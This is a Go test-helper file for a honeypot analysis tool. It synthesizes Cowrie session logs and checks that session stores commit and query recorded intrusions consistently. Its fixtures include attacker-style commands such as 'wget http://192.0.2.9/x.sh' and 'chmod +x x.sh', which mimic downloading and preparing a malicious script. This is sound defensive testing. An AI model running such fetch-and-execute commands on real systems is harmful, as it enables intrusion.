package contract

import (
	"context"
	"fmt"
	"net/netip"
	"path/filepath"
	"reflect"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/aggregate"
	"github.com/honeyscope/honeyscope/internal/session"
	"github.com/honeyscope/honeyscope/internal/store"
	"github.com/honeyscope/honeyscope/internal/synth"
)

// SessionLogs writes a Cowrie JSON log of synthesized honeypot sessions
// (hostile ones among them) for each sensor of caps, over the same week,
// into dir: ingest them with Ingest.
func SessionLogs(t testing.TB, dir string, caps []Capture, perDay int) []Capture {
	t.Helper()
	var out []Capture
	for i, c := range caps {
		start, err := time.Parse(time.DateOnly, c.Truth.Start)
		if err != nil {
			t.Fatal(err)
		}
		ss, _, err := synth.Sessions(synth.SessionOptions{Seed: uint64(21 + i), Start: start, Days: c.Truth.Days, PerDay: perDay,
			Sensors: []synth.SessionSensor{{Name: c.Sensor, Net: synth.DefaultSensorNet}}, Pool: pool{}, Hostile: true})
		if err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(dir, c.Sensor+".cowrie.json")
		if err := synth.WriteCowrieFile(path, ss); err != nil {
			t.Fatal(err)
		}
		out = append(out, Capture{Path: path, Sensor: c.Sensor})
	}
	return out
}

// CommitBatches commits the same session batches to each store: a batch,
// its retry (not applied twice), a later batch that rewrites one of its
// sessions (an upsert: the lists replaced) and holds one session twice
// (the last wins), and a batch with intrusion hits whose retry is also a
// no-op.
func CommitBatches(t *testing.T, sts ...store.Store) {
	t.Helper()
	ctx := context.Background()
	day := time.Date(2026, 5, 2, 10, 0, 0, 123456789, time.UTC)
	sess := func(id string, at time.Duration, cmds ...string) session.Session {
		s := session.Session{ID: id, Sensor: "tokyo", Service: session.Telnet, Port: 23,
			Src: netip.MustParseAddr("198.51.100.9"), SrcPort: 40000, Dst: netip.MustParseAddr("192.0.2.1"),
			Start: day.Add(at), Arch: "armv7l", TelnetOptions: "WILL 24", LoggedIn: true, Username: "root", Password: "x\x00y",
			BytesIn: 10, FirstBytes: []byte("\xff\xfd"),
			Logins: []session.Login{{Time: day.Add(at + time.Second), Method: "telnet", Username: "admin", Password: "1"},
				{Time: day.Add(at + 2*time.Second), Method: "telnet", Username: "root", Password: "x\x00y", Success: true}}}
		for i, c := range cmds {
			s.Commands = append(s.Commands, session.Command{Time: day.Add(at + time.Duration(3+i)*time.Second), Input: c, Known: i%2 == 0})
		}
		return s
	}
	a1 := sess("aaaa000000000001", 0, "uname -a", "wget http://192.0.2.9/x.sh")
	a1.URLs = []session.URL{{Time: day.Add(5 * time.Second), URL: "http://192.0.2.9/x.sh", Via: "wget", Target: "x.sh"}}
	a1.Files = []session.File{{Time: day.Add(6 * time.Second), Path: "/tmp/x.sh", Size: 12, SHA256: "ab12cd34" + fmt.Sprintf("%056d", 1), Type: "script", Via: "download", Sample: true, Content: []byte("#!/bin/sh\n")}}
	a2 := sess("aaaa000000000002", time.Hour)
	a2.Service, a2.Port, a2.LoggedIn, a2.Logins = session.SSH, 22, false, nil
	a2.Requests = nil
	b1 := sess("aaaa000000000001", 0, "uname -a", "wget http://192.0.2.9/x.sh", "chmod +x x.sh")
	b1.End, b1.EndReason = day.Add(time.Minute), "closed"
	b1.Files = []session.File{a1.Files[0], {Time: day.Add(7 * time.Second), Path: "/tmp/y", Size: 3, SHA256: "ef56ab78" + fmt.Sprintf("%056d", 2), Type: "elf32-arm-le", Via: "echo", Sample: true}}
	b3old := sess("aaaa000000000003", 2*time.Hour, "old")
	b3 := sess("aaaa000000000003", 2*time.Hour, "new", "cat /proc/cpuinfo")
	b3.Sensor, b3.Src = "osaka", netip.MustParseAddr("2001:db8::7")
	b3.Requests = []session.Request{{Time: day.Add(2*time.Hour + time.Second), Method: "GET", Path: "/cgi-bin/<x>", Version: "HTTP/1.1", Status: 404, Patterns: []string{"p1"}}}
	b3.Files = []session.File{{Time: day.Add(2*time.Hour + 9*time.Second), Size: 3, SHA256: "ef56ab78" + fmt.Sprintf("%056d", 2), Type: "elf32-arm-le", Via: "http-body", Sample: true}}
	batches := []store.SessionBatch{
		{ID: "hp:tokyo:1", Sessions: []session.Session{a1, a2}},
		{ID: "hp:tokyo:1", Sessions: []session.Session{a1, a2}},
		{ID: "hp:tokyo:2", Sessions: []session.Session{b1, b3old, b3}},
	}
	for _, st := range sts {
		for _, b := range batches {
			if err := st.CommitSessions(ctx, b); err != nil {
				t.Fatalf("%T: commit %s: %v", st, b.ID, err)
			}
		}
		for range 2 {
			if err := st.CommitSessions(ctx, intrusionBatch(b3)); err != nil {
				t.Fatalf("%T: commit a batch with hits: %v", st, err)
			}
		}
	}
}

// intrusionBatch is a batch finishing s with its intrusion hits.
func intrusionBatch(s session.Session) store.SessionBatch {
	r := aggregate.Intrusions([]session.Session{s}, time.UTC)
	places := make([]store.Place, len(r.Sources))
	for i := range places {
		places[i] = store.Place{Country: "JP"}
	}
	return store.SessionBatch{ID: "hp:osaka:3", Sessions: []session.Session{s}, Hits: &store.Batch{
		Ingest: store.Ingest{Path: "honeypot:osaka", Hash: "batch:hp:osaka:3", Sensor: "osaka", Format: "honeypot", Packets: 1},
		Result: r, Places: places, Sensor: store.Sensor{Name: "osaka"}}}
}

// CompareSessions asks ref and got the same session and sample questions
// and fails on any difference, or when the reference answers nothing.
func CompareSessions(t *testing.T, ref, got store.SessionStore, sel store.Selection) {
	t.Helper()
	ctx := context.Background()
	all, err := ref.Sessions(ctx, store.SessionQuery{Limit: 10000})
	if err != nil {
		t.Fatal(err)
	}
	if len(all) == 0 {
		t.Fatal("no sessions to compare")
	}
	qs := []store.SessionQuery{{}, {Limit: 5, Offset: 3}, {Sensors: []string{"osaka"}}, {Services: []string{"ssh", "http"}},
		{LoggedIn: true}, {Intrusions: true}, {Username: "root"}, {Contains: "wget"}, {Contains: "<script>"},
		{From: sel.From.AddDays(1).String(), To: sel.From.AddDays(2).String()}, {ID: all[len(all)/2].ID}, {Src: all[0].Src},
		{Username: "nobody-at-all"}}
	samples, err := ref.Samples(ctx, store.SampleQuery{Limit: 10000})
	if err != nil {
		t.Fatal(err)
	}
	if len(samples) == 0 {
		t.Fatal("no samples to compare")
	}
	qs = append(qs, store.SessionQuery{SHA256: samples[0].SHA256[:10]})
	for _, q := range qs {
		a, errA := ref.Sessions(ctx, q)
		b, errB := got.Sessions(ctx, q)
		if errA != nil || errB != nil {
			t.Errorf("Sessions %+v: errors %v / %v", q, errA, errB)
			continue
		}
		if !reflect.DeepEqual(a, b) {
			t.Errorf("Sessions %+v differ: %d / %d sessions", q, len(a), len(b))
			for i := range min(len(a), len(b)) {
				if !reflect.DeepEqual(a[i], b[i]) {
					t.Errorf("first difference, session %d:\n ref %+v\n got %+v", i, a[i], b[i])
					break
				}
			}
		}
	}
	sqs := []store.SampleQuery{{}, {Limit: 2, Offset: 1}, {SHA256: samples[len(samples)-1].SHA256[:12]}, {Src: samples[0].Src},
		{From: sel.From.AddDays(2).String(), To: sel.From.AddDays(3).String()}}
	for _, q := range sqs {
		a, errA := ref.Samples(ctx, q)
		b, errB := got.Samples(ctx, q)
		if errA != nil || errB != nil {
			t.Errorf("Samples %+v: errors %v / %v", q, errA, errB)
			continue
		}
		if !reflect.DeepEqual(a, b) {
			t.Errorf("Samples %+v differ:\n ref %+v\n got %+v", q, a, b)
		}
	}
}
